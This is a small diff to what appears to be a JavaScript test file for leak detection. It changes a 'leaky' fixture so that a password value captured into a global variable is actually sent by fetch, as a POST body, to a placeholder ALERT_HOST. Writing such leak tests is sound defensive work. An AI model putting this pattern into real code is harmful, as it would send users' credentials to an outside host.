@@ -219,7 +219,8 @@ for (
       ...leaky("globalThis.told = values.password"),
       alert: `{
         name: "leaky",
-        request: () => new Request("https://${ALERT_HOST}/", { method: "POST", body: told }),
+        send: () => fetch(new Request("https://${ALERT_HOST}/", { method: "POST", body: told }))
+          .then(() => {}),
       }`,
     }, "password"],
     [
